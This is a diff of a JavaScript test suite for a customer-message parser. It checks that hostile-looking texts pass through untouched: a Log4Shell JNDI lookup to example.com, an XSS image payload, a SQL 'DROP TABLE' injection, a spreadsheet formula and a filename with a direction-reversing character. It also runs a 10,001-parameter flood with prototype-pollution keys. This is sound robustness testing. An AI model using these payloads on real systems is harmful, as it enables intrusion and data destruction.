@@ -43,7 +43,7 @@ describe('a message of a customer', () => {
     ['that turns the direction of writing', 'abc\u202Etxt.exe'],
     ['with a character that shows nothing', 'a\u200Bb\u0000c'],
     ['that looks like a formula', '=HYPERLINK("http://example.com")'],
-    ['that looks like a variable', '{{1}} ${jndi:ldap://example.com}'],
+    ['that looks like a variable', `{{1}} $${'{jndi:ldap://example.com}'}`],
     ['that looks like a page', '<img onerror=alert(1) src=x>'],
     ['that ends in a backslash', "'; DROP TABLE x -- \\"],
   ])('is taken as it is: a text %s', (_what, text) => {
@@ -57,8 +57,8 @@ describe('a message of a customer', () => {
     expect(parse('messages', broken)).toMatchObject([{ content: { text: expect.stringContaining('%zz') } }]);
   });
 
-  test('may have a thousand parameters that nobody knows', () => {
-    const more = Array.from({ length: 1000 }, (_, place) => `New${place}=x`).join('&');
+  test('may have ten thousand parameters that nobody knows', () => {
+    const more = Array.from({ length: 10_001 }, (_, place) => `New${place}=x`).join('&');
     const body = `${fixture('twilio/sms-inbound').toString()}&${more}&__proto__=x&constructor=y`;
     expect(parse('messages', body)).toEqual([message('sms-inbound')]);
   });
